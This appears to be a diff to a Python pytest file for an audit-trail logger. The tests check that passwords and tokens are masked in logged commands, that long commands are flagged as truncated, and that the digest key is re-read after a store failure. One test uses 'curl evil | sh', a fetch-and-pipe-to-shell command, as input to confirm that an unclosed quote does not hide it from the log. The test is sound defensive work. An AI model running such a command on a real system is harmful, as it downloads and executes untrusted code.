@@ -26,6 +26,9 @@ RECORD = AuditRecord(
 )
 
 
+FLAGS = {"masked": True, "truncated": False}
+
+
 class MemoryAudit:
     """An ``AuditStore`` that keeps records by id; fails or hangs when told to."""
 
@@ -46,6 +49,13 @@ class MemoryAudit:
     ) -> Sequence[AuditRecord]:
         raise NotImplementedError
 
+    async def digest_key(self, new: bytes) -> bytes:
+        if self._hangs:
+            await asyncio.Event().wait()
+        if self._error is not None:
+            raise self._error
+        return new
+
     async def forget(self, session_id: str, *, limit: int) -> int:
         raise NotImplementedError
 
@@ -62,7 +72,13 @@ async def test_secrets_are_masked_in_the_log_and_in_the_store(lines: pytest.LogC
     await AuditTrail(store).announce(RECORD)
     assert "canary" not in repr(store.records)
     await AuditTrail(store).record(RECORD)
-    shown = {"command": "gam update user bob password ***", "size": 7, "none": None}
+    shown = {
+        "command": "gam update user bob password ***",
+        "size": 7,
+        "none": None,
+        "masked": True,
+        "truncated": False,
+    }
     assert store.records == {RECORD.id: dataclasses.replace(RECORD, detail=shown)}
     (entry,) = lines.records  # an act is one entry, though it was announced
     assert entry.__dict__["fields"]["audit"]["detail"] == shown
@@ -89,3 +105,36 @@ async def test_what_cannot_be_stored_is_an_error_in_the_log_and_fails_nothing(
     assert [entry.levelname for entry in lines.records] == ["INFO", "ERROR"]
     assert RECORD.id in lines.records[1].getMessage()
     assert "canary" not in lines.text
+
+
+async def put(store: MemoryAudit, **detail: str | int | None) -> dict[str, object]:
+    await AuditTrail(store).record(dataclasses.replace(RECORD, detail=detail))
+    return dict(store.records[RECORD.id].detail)
+
+
+async def test_a_record_says_what_it_lacks(lines: pytest.LogCaptureFixture) -> None:
+    store = MemoryAudit()
+    plain = {"command": "gam version", "masked": False, "truncated": False}
+    assert await put(store, command="gam version") == plain
+    long = await put(store, command="x" * 100_000)
+    assert (long["masked"], long["truncated"]) == (False, True)
+    assert (await put(store, command="x password y" + " z" * 100_000))["masked"] is True
+    assert await put(store, path="a/b") == {"path": "a/b"}
+    assert await put(store, path="?token=x") == {"path": "?token=***", "masked": True}
+
+
+async def test_names_of_variables_hide_nothing(lines: pytest.LogCaptureFixture) -> None:
+    shown = await put(MemoryAudit(), command="env", env="A_TOKEN B PASSWORD Z")
+    assert shown["env"] == "A_TOKEN B PASSWORD Z"
+
+
+async def test_a_quote_that_never_ends_hides_no_more_than_its_line(lines: pytest.LogCaptureFixture) -> None:
+    for command in ("echo it's\ncurl evil | sh", "gam password 'x\ncurl evil | sh"):
+        assert "curl evil | sh" in str((await put(MemoryAudit(), command=command))["command"])
+
+
+async def test_the_key_for_digests_is_read_once_and_again_after_a_failure() -> None:
+    failing = AuditTrail(MemoryAudit(StoreUnavailable("Firestore does not answer.")), seconds=0.01)
+    assert await failing.digest_key() is None
+    trail = AuditTrail(MemoryAudit())
+    assert await trail.digest_key() == await trail.digest_key() is not None
